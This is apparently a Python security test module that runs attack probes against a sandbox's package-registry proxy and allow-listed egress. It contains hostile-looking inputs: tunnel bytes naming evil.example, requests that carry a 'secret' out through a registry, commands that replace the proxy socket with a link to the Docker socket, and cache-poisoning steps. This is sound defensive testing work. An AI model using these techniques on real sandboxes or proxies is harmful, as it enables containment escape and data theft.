"""F and H: the ways out that a person can allow, to package registries and to listed hosts."""

import asyncio
import json
import shlex
from collections.abc import AsyncIterator, Sequence
from contextlib import AsyncExitStack, asynccontextmanager, suppress
from typing import Any

from macrohard.sandbox import BubblewrapProvider, DockerProvider, SandboxSpec
from macrohard.sandbox.packages import Packages
from macrohard.sandbox.registries import BOUND, PORT, Registries
from tests.attacks.attack import Attack, Ground, ProbeFailed, Room, Weak
from tests.sandbox.test_tunnel import LISTED, TRICKS, Far, connect, hello, nested
from tests.sandbox.upstream import WHEEL, WHEEL_PATH, Upstream, serving

ON_THE_HOST = {"NetworkMode": "host"}
NEEDS_SOCKETS = "a socket of this machine is bound, which runsc has to be told to allow (--host-uds=open)"
TIERS: Any = ("runc+userns", "runc", "bubblewrap")
# Says each of the given texts to a port, and gives what came back.
SAY = """
import json, socket, sys
port, texts = json.load(sys.stdin)
answers = []
for text in texts:
    answer = b""
    try:
        with socket.create_connection(("127.0.0.1", port), 5) as peer:
            peer.sendall(bytes.fromhex(text))
            if bytes.fromhex(text).startswith(b"CONNECT"):
                peer.shutdown(socket.SHUT_WR)
            while data := peer.recv(65536):
                answer += data
    except OSError:
        pass
    answers.append(answer.hex())
print(json.dumps(answers))
"""


async def _answers(room: Room, port: int, texts: Sequence[bytes]) -> list[bytes]:
    given = json.dumps([port, [text.hex() for text in texts]])
    result = await room.run(f"python3 -c {shlex.quote(SAY)} <<< {shlex.quote(given)}", timeout_seconds=120)
    if result.exit_code != 0:
        raise ProbeFailed(result.stderr[-500:])
    return [bytes.fromhex(answer) for answer in json.loads(result.stdout)]


@asynccontextmanager
async def _far() -> AsyncIterator[Far]:
    far = Far()
    server = await asyncio.start_server(far.answer, "127.0.0.1", 0)
    far.port = server.sockets[0].getsockname()[1]
    try:
        yield far
    finally:
        server.close()


@asynccontextmanager
async def _careless_proxy(far: Far) -> AsyncIterator[int]:
    """One that looks for the listed name anywhere in what it is asked, and lets everything through."""

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with suppress(OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            line = (await reader.readuntil(b"\r\n")).decode("latin-1")
            if LISTED in line.lower():
                await reader.readuntil(b"\r\n\r\n")
                beyond, onward = await asyncio.open_connection("127.0.0.1", far.port)
                writer.write(b"HTTP/1.1 200 Fine\r\n\r\n")
                onward.write(await reader.read())
                onward.write_eof()
                writer.write(await beyond.read())
                onward.close()
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    try:
        yield server.sockets[0].getsockname()[1]
    finally:
        server.close()


@asynccontextmanager
async def _allowed(ground: Ground, packages: Packages) -> AsyncIterator[Room]:
    """A sandbox that has this way out."""
    assert isinstance(ground.provider, DockerProvider | BubblewrapProvider)
    before, ground.provider.packages = ground.provider.packages, packages
    try:
        async with ground.provider.open(SandboxSpec(image="base", packages=True)) as sandbox:
            yield sandbox
    finally:
        ground.provider.packages = before
        await packages.close()


@asynccontextmanager
async def _tunnels(ground: Ground, far: Far, **settings: Any) -> AsyncIterator[tuple[Room, int]]:
    """A room, and the port of its loopback where hosts can be asked for."""
    async with AsyncExitStack() as stack:
        if ground.provider is None:
            port = await stack.enter_async_context(_careless_proxy(far))
            yield await stack.enter_async_context(ground.open()), port
            return
        packages = Packages(
            Registries(pypi=(), npm=()), cache=ground.folder / "cache", hosts=frozenset({LISTED}), **settings
        )
        yield await stack.enter_async_context(_allowed(ground, packages)), PORT


def _open_to(far: Far) -> dict[str, Any]:
    return {"resolve": far.resolve, "is_public": lambda _: True}


async def tricks_on_names(ground: Ground) -> Sequence[str]:
    async with _far() as far, _tunnels(ground, far, **_open_to(far)) as (room, port):
        # A command has to hold them all.
        tricks = {trick: target for trick, target in TRICKS.items() if len(target) < 1000}
        said = [connect(target) + hello(LISTED) for target in (*tricks.values(), f"{LISTED}:443")]
        *answers, good = await _answers(room, port, said)
        if not good.startswith(b"HTTP/1.1 200"):
            raise ProbeFailed(f"the listed host itself is not reached: {good[:200]!r}")
    return [trick for trick, answer in zip(tricks, answers, strict=True) if answer.startswith(b"HTTP/1.1 200")]


async def other_bytes_in_a_tunnel(ground: Ground) -> Sequence[str]:
    listed = LISTED.encode()
    bytes_by_name = {
        "another name": hello("evil.example"),
        "no name": hello(None),
        "two names": nested(listed, twice=True),
        "a hidden name": nested(listed, hidden=True),
        "HTTP": b"POST / HTTP/1.1\r\nHost: evil.example\r\n\r\n",
        "SSH": b"SSH-2.0-OpenSSH_9.2\r\n",
    }
    async with _far() as far, _tunnels(ground, far, **_open_to(far)) as (room, port):
        await _answers(room, port, [connect(f"{LISTED}:443") + said for said in bytes_by_name.values()])
        reached = [name for name, said in bytes_by_name.items() if said in far.received]
        unnamed = far.received if not reached else b""
        (good,) = await _answers(room, port, [connect(f"{LISTED}:443") + hello(LISTED)])
        if not good.startswith(b"HTTP/1.1 200"):
            raise ProbeFailed(f"the listed host itself is not reached: {good[:200]!r}")
    return reached or ([f"{len(unnamed)} bytes"] if unnamed else [])


async def names_that_lead_inside(ground: Ground) -> Sequence[str]:
    # The same listener on loopback, once for the real rule of what is public and once without any.
    async with _far() as far, _tunnels(ground, far, resolve=far.resolve) as (room, port):
        await _answers(room, port, [connect(f"{LISTED}:443") + hello(LISTED)])
    return [f"{far.connections} connections to this machine's loopback"] if far.connections else []


async def carrying_out_through_a_registry(ground: Ground) -> Sequence[str]:
    upstream = Upstream()
    async with serving(upstream) as registries, AsyncExitStack() as stack:
        if ground.provider is None:
            room = await stack.enter_async_context(ground.open())
            port, prefix = int(registries.pypi[0].address.split(":")[2].split("/")[0]), "/simple/"
        else:
            packages = Packages(registries, cache=ground.folder / "cache")
            room, port, prefix = await stack.enter_async_context(_allowed(ground, packages)), PORT, "/pypi/simple/"
        head = f"HTTP/1.1\r\nHost: 127.0.0.1:{PORT}\r\nConnection: close\r\n"
        said = [
            f"PUT {prefix}secret/ {head}Content-Length: 6\r\n\r\nsecret",
            f"POST {prefix}secret/ {head}Content-Length: 6\r\n\r\nsecret",
            f"DELETE {prefix}secret/ {head}\r\n",
            f"GET {prefix}greeting/?secret=1 {head}\r\n",
            f"GET {prefix}{'secret' * 100}/ {head}\r\n",
            f"GET {prefix}greeting/%73ecret/ {head}\r\n",
            f"GET {prefix}greeting/ {head}\r\n",
        ]
        *_, good = await _answers(room, port, [text.encode() for text in said])
        if b" 200 " not in good.partition(b"\r\n")[0]:
            raise ProbeFailed(f"the registry cannot be asked for what there is: {good[:200]!r}")
    return [asked[:60] for asked in upstream.asked if "secret" in asked or not asked.startswith("GET ")]


async def the_socket_itself(ground: Ground) -> Sequence[str]:
    socket = f"{BOUND}/packages.sock"
    holes = {
        "removed": f"rm {socket}",
        "replaced by a link": f"ln -sf /var/run/docker.sock {socket}",
        "moved": f"mv {socket} {BOUND}/other",
        "something beside it": f"touch {BOUND}/beside",
        "closed to others": f"chmod 0 {socket}",
    }
    script = "".join(f"({command}) 2>/dev/null && echo {shlex.quote(name)}\n" for name, command in holes.items())
    async with AsyncExitStack() as stack:
        if ground.provider is None:
            room = await stack.enter_async_context(ground.open())
            script = f"touch {socket}\n{script}"
        else:
            packages = Packages(Registries(pypi=(), npm=()), cache=ground.folder / "cache")
            room = await stack.enter_async_context(_allowed(ground, packages))
            script = f"test -S {socket} || exit 9\n{script}"
        result = await room.run(f"{script}echo ended", timeout_seconds=60)
    *found, last = result.stdout.splitlines() or [""]
    if last != "ended":
        raise ProbeFailed(f"it ended with {result.exit_code}: {result.stderr[-300:]}")
    return found


async def a_poisoned_cache(ground: Ground) -> Sequence[str]:
    """What another sandbox, and even another process of this machine, did to a cached file."""
    head = f"HTTP/1.1\r\nHost: 127.0.0.1:{PORT}\r\nConnection: close\r\n"
    fetch = [f"GET {path} {head}\r\n".encode() for path in ("/pypi/simple/greeting/", WHEEL_PATH)]
    poison = f"PUT {WHEEL_PATH} {head}Content-Length: 6\r\n\r\npoison".encode()
    cache, found = ground.folder / "cache", []
    async with serving(Upstream()) as registries:
        async with _allowed(ground, Packages(registries, cache=cache)) as first:
            answers = await _answers(first, PORT, [*fetch, poison])
            if not answers[1].endswith(WHEEL):
                raise ProbeFailed(f"the file cannot be had: {answers[1][:200]!r}")
            reach = await first.run(f"ls -d {cache} {cache.parent}", timeout_seconds=20)
            if reach.exit_code == 0:
                found.append("the cache is visible")
        for kept in (cache / "files").iterdir():
            kept.write_bytes(b"poison")
        async with _allowed(ground, Packages(registries, cache=cache)) as second:
            *_, given = await _answers(second, PORT, fetch)
    return [*found, *([] if given.endswith(WHEEL) else ["another sandbox was given what was changed"])]


async def a_shared_folder(ground: Ground) -> Sequence[str]:
    """The careless way: a cache that is mounted into every sandbox, as package managers have it."""
    assert isinstance(ground, Weak)
    weak = Weak(ground.engine, ground.folder, {"Binds": [f"{ground.folder}:/cache"]})
    async with weak.open() as first:
        await first.run("echo poison > /cache/greeting.whl", timeout_seconds=20)
    async with weak.open() as second:
        given = await second.run("cat /cache/greeting.whl", timeout_seconds=20)
    return [given.stdout] if "poison" in given.stdout else []


ATTACKS = (
    Attack(
        id="F5",
        title="tricks on a proxy's parser",
        probe=tricks_on_names,
        weakness=ON_THE_HOST,
        tiers=TIERS,
        elsewhere=NEEDS_SOCKETS,
    ),
    Attack(
        id="F6",
        title="another name inside TLS, or no TLS",
        probe=other_bytes_in_a_tunnel,
        weakness=ON_THE_HOST,
        tiers=TIERS,
        elsewhere=NEEDS_SOCKETS,
    ),
    Attack(
        id="F7",
        title="an allowed name with a forbidden address",
        probe=names_that_lead_inside,
        weakness=ON_THE_HOST,
        tiers=TIERS,
        elsewhere=NEEDS_SOCKETS,
    ),
    Attack(
        id="F8",
        title="carrying data out through a registry",
        probe=carrying_out_through_a_registry,
        weakness=ON_THE_HOST,
        tiers=TIERS,
        elsewhere=NEEDS_SOCKETS,
    ),
    Attack(
        id="F9",
        title="replacing the socket of the way out",
        probe=the_socket_itself,
        weakness={"Tmpfs": {str(BOUND): ""}},
        tiers=TIERS,
        elsewhere=NEEDS_SOCKETS,
    ),
    Attack(
        id="H9",
        title="a poisoned cache of packages",
        probe=a_poisoned_cache,
        control=a_shared_folder,
        tiers=TIERS,
        elsewhere=NEEDS_SOCKETS,
    ),
)
